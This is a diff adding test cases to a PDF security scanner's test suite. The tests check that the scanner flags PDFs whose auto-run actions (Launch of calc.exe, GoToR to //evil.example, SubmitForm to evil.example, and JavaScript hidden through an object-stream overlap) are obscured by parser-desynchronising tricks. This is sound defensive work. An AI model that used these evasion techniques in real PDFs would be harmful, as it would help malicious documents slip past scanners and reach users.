@@ -127,6 +127,23 @@ describe('PDF check: what runs or reaches out', () => {
     expect(r.rules).toContain(rule);
   });
 
+  it.each([
+    ['a Launch', '/OpenAction << /Foo 1 2 /S /Launch /F (calc.exe) >>', 'pdf-launch'],
+    [
+      'a GoToR to another computer',
+      '/OpenAction << /D 0 1 /S /GoToR /F (//evil.example/s/x.pdf) >>',
+      'pdf-remote-file',
+    ],
+    [
+      'a SubmitForm',
+      '/OpenAction << /Foo 1 2 /S /SubmitForm /F (https://evil.example/) >>',
+      'pdf-submit-form',
+    ],
+  ])('refuses %s whose dictionary a stray token knocks out of step', async (_, extra, rule) => {
+    // PDFium and pdf.js skip what cannot be a key and pair the rest; qpdf reads the same pairs.
+    expect((await scan(buildPdf({ catalogExtra: extra }))).rules).toEqual([rule]);
+  });
+
   it('names the object that holds the action', async () => {
     const r = await scan(
       buildPdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'], catalogExtra: '/OpenAction 7 0 R' }),
@@ -493,6 +510,20 @@ describe('PDF check: forms, attachments, encryption', () => {
     expect((await scan(missing)).details).toEqual([
       'The PDF names its XFA form (object 12), but the check found no stream of that number to read.',
     ]);
+  });
+
+  it("refuses an object stream object that runs on past the next object's offset, as qpdf reads it", async () => {
+    // Object 10 opens a dictionary that goes on in object 11's range: qpdf reads 10 to its end,
+    // a JavaScript action; the object-by-object reading saw loose names in 11.
+    const objects = ['<< /Type /Annot >> ', '<< /Type /Foo ', '/S /JavaScript /JS (app.alert(1)) >> ', '42 '];
+    const offsets = objects.map((_, i) => objects.slice(0, i).join('').length);
+    const header = `${offsets.map((o, i) => `${9 + i} ${o}`).join(' ')} `;
+    const data = deflateSync(Buffer.from(header + objects.join(''), 'latin1'));
+    const pdf = buildPdf({
+      catalogExtra: '/OpenAction 10 0 R',
+      objects: [{ dict: `/Type /ObjStm /N 4 /First ${header.length} /Filter /FlateDecode`, data }],
+    });
+    expect((await scan(pdf)).rules).toEqual(['pdf-damaged-javascript']);
   });
 
   it('reads an object stream whose header separates numbers with NUL, as readers do', async () => {
